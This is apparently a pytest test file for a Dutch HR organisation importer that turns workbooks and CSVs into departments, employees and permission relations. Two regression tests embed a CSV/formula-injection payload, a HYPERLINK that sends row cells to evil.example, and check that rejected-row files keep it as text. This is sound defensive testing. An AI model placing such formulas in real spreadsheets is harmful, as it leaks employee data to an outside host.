"""``regelwerk import organisation``: a workbook (or CSV files) of afdelingen, functies, rollen, taken and
medewerkers becomes units, employee facts and the relations the step2HR matrix decides with; all rows or
none, or --skip-invalid with a file of rejected rows that imports again once fixed."""

from __future__ import annotations

import json
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from regelwerk.imports.organisation import import_organisation, write_rejected
from regelwerk.imports.tables import org_units
from regelwerk.permissions.sql import SqlRelationships
from regelwerk.scheduling.employees import EmployeeDirectory

ROOT = Path(__file__).resolve().parent.parent
NOW = datetime(2027, 1, 4, 9, 0, tzinfo=UTC)

SHEETS: dict[str, list[list[Any]]] = {
    "Afdelingen": [["Code", "Naam", "Valt onder", "Leidinggevende"],
                   ["dir", "Directie", None, "e1"],
                   ["zorg", "Zorg", "dir", "e2"],
                   ["wijk", "Wijkteam Noord", "zorg", None]],
    "Functies": [["Code", "Naam", "Afdeling"],
                 ["directeur", "Directeur", "dir"],
                 ["teamleider", "Teamleider", "zorg"],
                 ["verpleegkundige", "Verpleegkundige", "zorg"]],
    "Rollen": [["Code", "Naam", "Functie", "Rechtenniveau"],
               ["wijkcoach", "Wijkcoach", "verpleegkundige", None],
               ["praktijkopleider", "Praktijkopleider", "verpleegkundige", None],
               ["roosteraar", "Roosteraar", "teamleider", "leidinggevende"]],
    "Taken": [["Code", "Naam"], ["bhv", "BHV-er"], ["or", "Lid OR"]],
    "Medewerkers": [["Personeelsnummer", "Naam", "E-mailadres", "Datum in dienst", "Functie", "Afdeling",
                     "Leidinggevende", "Rollen", "Taken", "Rechtenniveau"],
                    [1, "Els Directeur", "els@example.nl", datetime(2015, 1, 1), "directeur", "dir", None, None, None,
                     "directie"],
                    ["e2", "Tom Teamleider", "tom@example.nl", "01-03-2018", "teamleider", "zorg", "e1",
                     "roosteraar", "bhv", None],
                    ["e3", 'Jan "JJ" de Vries', "jan@example.nl", "2020-09-01", "verpleegkundige", "wijk", None,
                     "wijkcoach; praktijkopleider", "bhv; or", "medewerker"]],
}


def workbook(path: Path, sheets: dict[str, list[list[Any]]]) -> Path:
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    book.save(path)
    return path


@pytest.fixture
def engine(sqlite_url: str) -> Any:
    sa_engine = sa.create_engine(sqlite_url)
    yield sa_engine
    sa_engine.dispose()


def sheets_with(**changes: list[list[Any]]) -> dict[str, list[list[Any]]]:
    sheets = {k: [list(r) for r in v] for k, v in SHEETS.items()}
    # the first employee's number is typed as a number in Excel; the import reads it as text "1"
    sheets["Afdelingen"][1][3] = 1
    sheets["Medewerkers"][2][6] = 1
    sheets.update(changes)
    return sheets


def active(engine: Any, kind: str | None = None) -> set[tuple[str, str, str]]:
    rel = SqlRelationships(engine)
    return {(r.kind, r.subject, r.object) for r in rel.relations(kind) if r.withdrawn_at is None}


def standard() -> Any:
    from regelwerk.cli import load_compiled

    return load_compiled(str(ROOT / "definitions" / "standard"))


def test_workbook_becomes_units_employees_and_relations(engine: Any, tmp_path: Path) -> None:
    path = workbook(tmp_path / "organisatie.xlsx", sheets_with())
    result = import_organisation(engine, [path], compiled=standard(), now=NOW)
    assert result.ok, result.lines()
    assert dict(result.imported) == {"departments": 3, "functions": 3, "roles": 3, "tasks": 2, "employees": 3}
    links = active(engine)
    assert ("reports_to", "e2", "1") in links
    assert ("reports_to", "e3", "e2") in links  # no manager column: the manager of 'zorg', above 'wijk'
    assert not any(k == "reports_to" and s == "1" for k, s, _ in links)  # the director manages her own department
    assert {("member_of", "e3", "wijk"), ("has_function", "e3", "verpleegkundige"), ("has_task", "e3", "or"),
            ("has_function_role", "e3", "wijkcoach"), ("part_of", "wijk", "zorg"), ("manages", "e2", "zorg")} <= links
    # function roles are not permission roles; Rechtenniveau is, per employee or per role (roosteraar)
    assert {r for k, s, r in links if k == "has_role"} == {"directie", "leidinggevende", "medewerker"}
    assert ("has_role", "e3", "wijkcoach") not in links and ("has_role", "e2", "leidinggevende") in links
    facts = EmployeeDirectory(engine).get("e3")
    assert facts is not None and facts.name == 'Jan "JJ" de Vries' and facts.hire_date == date(2020, 9, 1)
    assert facts.roles == ("wijkcoach", "praktijkopleider") and facts.manager == "e2"
    assert facts.attributes == {"access": ["medewerker"], "email": "jan@example.nl", "tasks": ["bhv", "or"]}
    with engine.connect() as conn:
        units = {(r.kind, r.id): (r.parent, r.access) for r in conn.execute(sa.select(org_units))}
    assert units[("role", "roosteraar")] == ("teamleider", ["leidinggevende"])
    assert units[("department", "wijk")] == ("zorg", [])

    # the step2HR matrix decides with these relations: the team leader reads the line below, not above
    matrix = standard().get("PermissionMatrix", "step2hr")
    rel = SqlRelationships(engine)
    read = matrix.decider("employee", "read", "personal")
    assert read("e2", {"subject": "e3"}, rel, NOW).allowed
    assert not read("e2", {"subject": "1"}, rel, NOW).allowed
    assert not read("e3", {"subject": "e2"}, rel, NOW).allowed
    assert read("e3", {"subject": "e3"}, rel, NOW).allowed


def test_one_bad_row_rejects_everything_with_every_problem(engine: Any, tmp_path: Path) -> None:
    sheets = sheets_with()
    sheets["Medewerkers"].append(["e4", "Kim", "kim@", "2027-W01-1", "verpleegkundige", "wjik", "e9",
                                  "roosteraar", "bhv", "admin"])
    sheets["Afdelingen"].append(["lus", "Lus", "lus2", None])
    sheets["Afdelingen"].append(["lus2", "Lus 2", "lus", None])
    path = workbook(tmp_path / "org.xlsx", sheets)
    result = import_organisation(engine, [path], compiled=standard(), now=NOW)
    assert not result.ok
    messages = [str(e) for e in result.errors]
    assert messages[:2] == [
        f"{path} [Afdelingen] row 5: parent: the department tree goes round in a circle (lus -> lus2 -> lus)",
        f"{path} [Afdelingen] row 6: parent: the department tree goes round in a circle (lus -> lus2 -> lus)",
    ]
    assert messages[2].startswith(f"{path} [Medewerkers] row 5: email: 'kim@' is not an e-mail address; "
                                  "hire_date: '2027-W01-1' is not a date")
    setup = sa.inspect(engine)
    assert not setup.has_table("rw_org_units") or not EmployeeDirectory(engine).count()
    # the same row with only reference problems: each is named, with a hint where one is close
    sheets["Medewerkers"][-1] = ["e4", "Kim", "kim@example.nl", "2027-01-01", "verpleegkundige", "wjik", "e9",
                                 "roosteraar", "bhv", "beheerdr"]
    sheets["Afdelingen"] = sheets_with()["Afdelingen"]
    result = import_organisation(engine, [workbook(tmp_path / "org2.xlsx", sheets)], compiled=standard(), now=NOW)
    assert [e.message for e in result.errors] == [
        "manager: no employee 'e9'",
        "department: no department 'wjik' (did you mean 'wijk'?)",
        "roles: 'roosteraar' is a role of function 'teamleider', not of 'verpleegkundige'",
        "access: 'beheerdr' is not a role of the permission matrix (did you mean 'beheerder'?)",
    ]
    with engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(org_units)).scalar_one() == 0


def test_skip_invalid_writes_the_valid_rows_and_a_file_to_fix(engine: Any, tmp_path: Path) -> None:
    sheets = sheets_with()
    sheets["Afdelingen"].append(["kapot", "Kapot", "bestaat-niet", None])
    sheets["Medewerkers"].append(["e5", "Piet", "piet@example.nl", "2021-01-01", "verpleegkundige", "kapot", None,
                                  None, None, None])
    sheets["Medewerkers"].append(["e6", "Ria", "ria@example.nl", "2021-01-01", "verpleegkundige", "wijk", "e5",
                                  None, None, None])
    sheets["Medewerkers"].append(["e7", "Sam", "sam@example.nl", "31-02-2021", None, None, None, None, None, None])
    path = workbook(tmp_path / "org.xlsx", sheets)
    result = import_organisation(engine, [path], compiled=standard(), skip_invalid=True, now=NOW)
    assert result.ok and dict(result.imported)["employees"] == 3 and dict(result.imported)["departments"] == 3
    assert [(r.entity, r.row, r.errors) for r in result.rejected] == [
        ("departments", 5, ("parent: no department 'bestaat-niet'",)),
        ("employees", 5, (f"department: 'kapot' is rejected ({path} [Afdelingen] row 5)",)),
        ("employees", 6, (f"manager: 'e5' is rejected ({path} [Medewerkers] row 5)",)),
        ("employees", 7, ("hire_date: '31-02-2021' is not a date (YYYY-MM-DD or DD-MM-YYYY)",)),
    ]
    assert EmployeeDirectory(engine).get("e5") is None
    rejected = write_rejected(result, tmp_path / "afgekeurd.xlsx")[0]
    from openpyxl import load_workbook

    book = load_workbook(rejected)
    assert book.sheetnames == ["departments", "employees"]
    assert [c.value for c in book["employees"][1]][-1] == "Fouten"
    assert book["employees"]["A2"].value == "e5"
    book.close()
    # the customer fixes the file (the Fouten column stays) and imports it again
    fixed = load_workbook(rejected)
    fixed["departments"]["C2"] = "zorg"
    fixed["employees"]["D4"] = "28-02-2021"
    fixed.save(rejected)
    again = import_organisation(engine, [rejected], compiled=standard(), now=NOW)
    assert again.ok, again.lines()
    assert dict(again.imported) == {"departments": 1, "functions": 0, "roles": 0, "tasks": 0, "employees": 3}
    assert ("reports_to", "e6", "e5") in active(engine) and EmployeeDirectory(engine).count() == 6


def test_reimport_is_idempotent_and_withdraws_what_changed(engine: Any, tmp_path: Path) -> None:
    path = workbook(tmp_path / "org.xlsx", sheets_with())
    first = import_organisation(engine, [path], now=NOW)
    again = import_organisation(engine, [path], now=NOW)
    assert first.relations_added > 10 and (again.relations_added, again.relations_withdrawn) == (0, 0)
    rel = SqlRelationships(engine)
    rel.relate("reports_to", "e3", "1", by="hr-admin")  # a link made by hand is never touched by the import
    moved = sheets_with()
    moved["Medewerkers"][3][6] = "1"
    result = import_organisation(engine, [workbook(tmp_path / "moved.xlsx", moved)], now=NOW)
    assert (result.relations_added, result.relations_withdrawn) == (1, 1)
    lines = {(r.subject, r.object, r.created_by, r.withdrawn_by) for r in SqlRelationships(engine).relations(
        "reports_to", subject="e3")}
    assert lines == {("e3", "e2", "import:organisation", "import:organisation"), ("e3", "1", "hr-admin", ""),
                     ("e3", "1", "import:organisation", "")}


def test_csv_files_named_after_what_they_hold(engine: Any, tmp_path: Path) -> None:
    (tmp_path / "afdelingen.csv").write_text("Code;Naam\nzorg;Zorg\n", encoding="utf-8")
    (tmp_path / "functies.csv").write_text("code,naam,afdeling\nvpk,\"Verpleegkundige, wijk\",zorg\n",
                                           encoding="utf-8")
    (tmp_path / "medewerkers-2027.csv").write_text(
        "personeelsnummer;naam;functie;afdeling;taken\nm1;\"Jan \"\"JJ\"\" de Vries\";vpk;zorg;\n", encoding="utf-8")
    files = [tmp_path / n for n in ("afdelingen.csv", "functies.csv", "medewerkers-2027.csv")]
    result = import_organisation(engine, files, now=NOW)
    assert result.ok, result.lines()
    facts = EmployeeDirectory(engine).get("m1")
    assert facts is not None and facts.name == 'Jan "JJ" de Vries'
    (tmp_path / "personeel.csv").write_text("id\nx\n", encoding="utf-8")
    (tmp_path / "lijst.csv").write_text("id\nx\n", encoding="utf-8")
    (tmp_path / "taken.csv").write_text("code;naam;kleur\nbhv;BHV;rood\n", encoding="utf-8")
    refused = import_organisation(engine, [tmp_path / "lijst.csv", tmp_path / "taken.csv"], now=NOW)
    assert [str(e) for e in refused.errors] == [
        f"{tmp_path / 'lijst.csv'}: the file name does not say what it holds (name it one of: Afdelingen, "
        "Functies, Rollen, Taken, Medewerkers)",
        f"{tmp_path / 'taken.csv'} row 1: the header: unknown column 'kleur' (declare it as an extra attribute of "
        "the import to keep it)",
    ]


def test_a_rejected_rows_workbook_keeps_text_that_looks_like_a_formula_as_text(engine: Any, tmp_path: Path) -> None:
    """Found by attack: the rejected rows' workbook (the default of ``--skip-invalid`` for several CSV files or a
    workbook) stored a text starting with ``=`` as a formula, so a name typed as
    ``=HYPERLINK("https://evil.example/?"&C2,"Klik")`` became a live formula, reading the row's cells, in the file the
    administrator opens to fix the rows. Every text is written as text, and imports again as it was."""
    from openpyxl import load_workbook

    evil = '=HYPERLINK("https://evil.example/?"&C2,"Klik")'
    (tmp_path / "afdelingen.csv").write_text("Code;Naam\nzorg;Zorg\n", encoding="utf-8")
    quoted = '"' + evil.replace('"', '""') + '"'
    (tmp_path / "medewerkers.csv").write_text(
        "personeelsnummer;naam;e-mailadres;afdeling\n"
        f"m1;{quoted};jan@example.nl;bestaat-niet\n"
        "m2;=1+1;ria@example.nl;zorg\n", encoding="utf-8")
    files = [tmp_path / "afdelingen.csv", tmp_path / "medewerkers.csv"]
    result = import_organisation(engine, files, skip_invalid=True, now=NOW)
    assert [(r.entity, r.row) for r in result.rejected] == [("employees", 2)]
    [rejected] = write_rejected(result, tmp_path / "afgekeurd.xlsx")
    book = load_workbook(rejected)
    cells = next(book["employees"].iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in cells[:2]] == [("m1", "s"), (evil, "s")]
    assert not any(c.data_type == "f" for row in book["employees"].iter_rows() for c in row)
    book.close()
    fixed = load_workbook(rejected)
    fixed["employees"]["D2"] = "zorg"
    fixed.save(rejected)
    again = import_organisation(engine, [rejected], now=NOW)
    assert again.ok, again.lines()
    found = EmployeeDirectory(engine).get("m1")
    assert found is not None and found.name == evil


@pytest.mark.parametrize(("second", "message"), [
    ("E1", "id: 'E1' differs from 'e1' (row 2) only in case or look"),
    ("\uff45\uff11", "id: 'ｅ１' differs from 'e1' (row 2) only in case or look"),  # full-width
    ("e\u200b1", "id: 'e\\u200b1' holds a control or invisible character (U+200B)"),
    ("e1\u202e", "id: 'e1\\u202e' holds a control or invisible character (U+202E)"),
    ('"e1\ne2"', "id: 'e1\\ne2' holds a control or invisible character (U+000A)"),
])
def test_an_id_that_only_looks_like_another_is_refused_naming_its_row(engine: Any, tmp_path: Path, second: str,
                                                                      message: str) -> None:
    """Found by attack: ``E1`` beside ``e1``, a zero-width space or a line break typed into the cell were imported as
    another person (ids are compared exactly), each with half of the roles and links meant for one; now the row is
    refused and names the row (or the store) whose id it looks like; nothing is written."""
    (tmp_path / "afdelingen.csv").write_text("Code;Naam\nzorg;Zorg\n", encoding="utf-8")
    (tmp_path / "medewerkers.csv").write_text(
        f"personeelsnummer;naam;afdeling\ne1;Anna;zorg\n{second};Anna;zorg\n", encoding="utf-8")
    files = [tmp_path / "afdelingen.csv", tmp_path / "medewerkers.csv"]
    result = import_organisation(engine, files, now=NOW)
    assert not result.ok
    [error] = result.errors
    assert error.row == 3 and error.message.startswith(message), str(error)
    assert EmployeeDirectory(engine).count() == 0


def test_an_id_that_only_looks_like_a_stored_one_is_refused_and_a_stored_one_is_taken(engine: Any,
                                                                                      tmp_path: Path) -> None:
    (tmp_path / "afdelingen.csv").write_text("Code;Naam\nzorg;Zorg\n", encoding="utf-8")
    (tmp_path / "medewerkers.csv").write_text("personeelsnummer;naam;afdeling\ne1;Anna;zorg\n", encoding="utf-8")
    files = [tmp_path / "afdelingen.csv", tmp_path / "medewerkers.csv"]
    assert import_organisation(engine, files, now=NOW).ok
    (tmp_path / "afdelingen.csv").write_text("Code;Naam\nZorg;Zorg\n", encoding="utf-8")
    (tmp_path / "medewerkers.csv").write_text("personeelsnummer;naam\nE1;Anna\n", encoding="utf-8")
    result = import_organisation(engine, files, now=NOW)
    assert [(e.row, e.message) for e in result.errors] == [
        (2, "id: 'Zorg' differs from 'zorg' (the store) only in case or look: write the one id the other systems use "
            "for both"),
        (2, "id: 'E1' differs from 'e1' (the store) only in case or look: write the one id the other systems use for "
            "both")]
    assert EmployeeDirectory(engine).count() == 1
    (tmp_path / "medewerkers.csv").write_text("personeelsnummer;naam\ne1;Anna de Vries\n", encoding="utf-8")
    again = import_organisation(engine, [tmp_path / "medewerkers.csv"], now=NOW)
    assert again.ok, again.lines()
    found = EmployeeDirectory(engine).get("e1")
    assert found is not None and found.name == "Anna de Vries"


def test_a_rejected_rows_csv_marks_text_that_would_start_a_formula_and_imports_as_it_was(engine: Any,
                                                                                        tmp_path: Path) -> None:
    """The CSV file of rejected rows wrote ``=HYPERLINK(...)`` as it was: from a workbook's text cell (or with
    ``--rejected x.csv``) it became a formula where the administrator opens it. A text that would start a formula
    gets Excel's text mark ``'``, which the reader takes off again, so the fixed file imports as it was."""
    import csv

    names = ['=HYPERLINK("https://evil.example/?"&A2,"Klik")', "+31 6 12345678", "-5 graden", "@SUM(A1)",
             "'t Hart"]
    with (tmp_path / "afdelingen.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(["Code", "Naam", "Valt onder"])
        writer.writerows([[f"d{i}", name, "bestaat-niet"] for i, name in enumerate(names)])
    result = import_organisation(engine, [tmp_path / "afdelingen.csv"], skip_invalid=True, now=NOW)
    assert len(result.rejected) == len(names)
    [rejected] = write_rejected(result, tmp_path / "afdelingen-afgekeurd.csv")
    with rejected.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    assert [row[1] for row in rows[1:]] == ["'" + n for n in names[:4]] + ["'t Hart"]
    with rejected.open("w", encoding="utf-8", newline="") as handle:  # the administrator fixes the parent cells
        csv.writer(handle, delimiter=";").writerows([rows[0]] + [[*row[:2], "", *row[3:]] for row in rows[1:]])
    again = import_organisation(engine, [rejected], now=NOW)
    assert again.ok, again.lines()
    with engine.connect() as conn:
        stored = dict(conn.execute(sa.select(org_units.c.id, org_units.c.name)).all())
    assert [stored[f"d{i}"] for i in range(len(names))] == names


def test_a_number_cell_of_more_digits_than_a_spreadsheet_keeps_is_refused(engine: Any, tmp_path: Path) -> None:
    """A personeelsnummer of 16 digits typed into a number cell is stored rounded to 15 (``1234567890123456`` as
    ``1.23456789012345E+15``); it was imported as ``1234567890123450``, digits nobody typed, which could be another
    person's number. Now a row problem; 15 digits and fewer are taken as before."""
    sheets = sheets_with()
    sheets["Medewerkers"].append([1234567890123450.0, "Kim", "kim@example.nl", "2027-01-01", "verpleegkundige",
                                  "wijk", None, None, None, None])
    sheets["Medewerkers"].append([123456789012345.0, "Lot", "lot@example.nl", "2027-01-01", "verpleegkundige",
                                  "wijk", None, None, None, None])
    result = import_organisation(engine, [workbook(tmp_path / "org.xlsx", sheets)], compiled=standard(), now=NOW)
    assert [(e.row, e.message) for e in result.errors] == [
        (5, "id: 1.23456789012345e+15 is a number cell of more than 15 digits, which a spreadsheet does not keep "
            "exactly; text is expected (format the column as text and type the number again)")]
    assert EmployeeDirectory(engine).count() == 0
    sheets["Medewerkers"].pop(4)
    again = import_organisation(engine, [workbook(tmp_path / "org2.xlsx", sheets)], compiled=standard(), now=NOW)
    assert again.ok, again.lines()
    assert EmployeeDirectory(engine).get("123456789012345") is not None


def test_cli_text_and_json(tmp_path: Path) -> None:
    from regelwerk.cli import cli
    from regelwerk.registry import load_registry

    for name, command in load_registry().commands.items():
        if name not in cli.commands:
            cli.add_command(command, name)
    url = f"sqlite:///{tmp_path / 'cli.sqlite'}"
    sheets = sheets_with()
    sheets["Medewerkers"].append(["e9", "X", None, "morgen", None, None, None, None, None, None])
    path = workbook(tmp_path / "org.xlsx", sheets)
    runner = CliRunner()
    result = runner.invoke(cli, ["import", "organisation", str(path), "--store", url])
    assert result.exit_code == 1 and "row 5: hire_date: 'morgen' is not a date" in result.output
    assert "nothing imported (1 error(s))" in result.output
    result = runner.invoke(cli, ["import", "organisation", str(path), "--store", url, "--skip-invalid",
                                 "--format", "json", "--bundle", str(ROOT / "definitions" / "standard")])
    assert result.exit_code == 0, result.output
    report = json.loads(result.output)
    assert report["imported"]["employees"] == 3 and report["rejected"][0]["row"] == 5
    assert report["rejected_file"] == [str(tmp_path / "org.afgekeurd.xlsx")]
    assert (tmp_path / "org.afgekeurd.xlsx").exists()


@pytest.mark.postgres
def test_organisation_import_on_postgresql(pg_url: str, tmp_path: Path) -> None:
    sa_engine = sa.create_engine(pg_url)
    try:
        path = workbook(tmp_path / "org.xlsx", sheets_with())
        assert import_organisation(sa_engine, [path], now=NOW).ok
        again = import_organisation(sa_engine, [path], now=NOW)
        assert (again.relations_added, again.relations_withdrawn) == (0, 0)
        assert ("reports_to", "e3", "e2") in active(sa_engine)
    finally:
        sa_engine.dispose()


def test_simulate_imports_the_organisation_workbook_of_a_customer(tmp_path: Path) -> None:
    from datetime import date as day

    from regelwerk.simulation.runner import simulate

    root = tmp_path / "zorg"
    (root / "data").mkdir(parents=True)
    (root / "bundle.yaml").write_text("apiVersion: regelwerk/v1\nkind: Bundle\nmetadata: {name: zorg}\n"
                                      "spec: {extends: standard}\n", encoding="utf-8")
    workbook(root / "data" / "organisatie.xlsx", sheets_with())
    url = f"sqlite:///{tmp_path / 'sim.sqlite'}"
    result = simulate(root, day(2027, 1, 4), day(2027, 1, 5), store=url)
    texts = [e["text"] for e in result.timeline if e["kind"] == "import"]
    assert texts[0].startswith("organisation workbook: 3 departments, 3 functions, 3 roles, 2 tasks, 3 employees")
    sa_engine = sa.create_engine(url)
    try:
        links = active(sa_engine, "reports_to")
        assert links == {("reports_to", "e2", "1"), ("reports_to", "e3", "e2")}  # written once, not also derived
    finally:
        sa_engine.dispose()


def test_roles_of_several_functions_task_rows_per_employee_and_partial_files(engine: Any, tmp_path: Path) -> None:
    """The shapes customers keep: Rollen as (functie, rol) pairs, Taken as (personeelsnummer, taak) rows,
    sheets without names; a later file with fewer columns keeps what it does not speak about."""
    assert import_organisation(engine, [workbook(tmp_path / "org.xlsx", sheets_with())], now=NOW).ok
    pairs = {
        "Rollen": [["functie", "rol"], ["verpleegkundige", "zorgmedewerker"], ["teamleider", "zorgmedewerker"],
                   ["teamleider", "roosteraar"]],
        "Taken": [["personeelsnummer", "taak"], ["e3", "BHV-er"], ["e2", "BHV-er"], ["e2", "lid OR"]],
        "Medewerkers": [["personeelsnummer", "rollen"], ["e3", "zorgmedewerker"], ["e2", "zorgmedewerker; roosteraar"]],
    }
    result = import_organisation(engine, [workbook(tmp_path / "pairs.xlsx", pairs)], now=NOW)
    assert result.ok, result.lines()
    with engine.connect() as conn:
        role = conn.execute(sa.select(org_units).where(org_units.c.id == "zorgmedewerker")).one()
    assert (role.name, role.parent, role.attributes) == ("zorgmedewerker", None,
                                                          {"functions": ["teamleider", "verpleegkundige"]})
    links = active(engine)
    assert {("has_task", "e3", "BHV-er"), ("has_task", "e2", "BHV-er"), ("has_task", "e2", "lid OR")} <= links
    assert ("has_task", "e3", "or") not in links  # the Taken sheet now says which tasks e3 has
    # columns the file does not have keep their stored values and links
    facts = EmployeeDirectory(engine).get("e3")
    assert facts is not None and facts.hire_date == date(2020, 9, 1) and facts.function == "verpleegkundige"
    assert facts.roles == ("zorgmedewerker",) and facts.attributes["tasks"] == ["BHV-er"]
    assert {("reports_to", "e3", "e2"), ("member_of", "e3", "wijk"), ("manages", "e2", "zorg")} <= links
    # a role given to someone whose function it does not belong to
    wrong = {"Medewerkers": [["personeelsnummer", "functie", "rollen"], ["e3", "verpleegkundige", "roosteraar"]]}
    refused = import_organisation(engine, [workbook(tmp_path / "wrong.xlsx", wrong)], now=NOW)
    assert [e.message for e in refused.errors] == [
        "roles: 'roosteraar' is a role of function 'teamleider', not of 'verpleegkundige'"]
    duplicate = {"Taken": [["personeelsnummer", "taak"], ["e3", "BHV-er"], ["e3", "BHV-er"]]}
    refused = import_organisation(engine, [workbook(tmp_path / "dup.xlsx", duplicate)], now=NOW)
    assert [e.message for e in refused.errors] == ["id: 'BHV-er' with employee 'e3' also in row 2"]
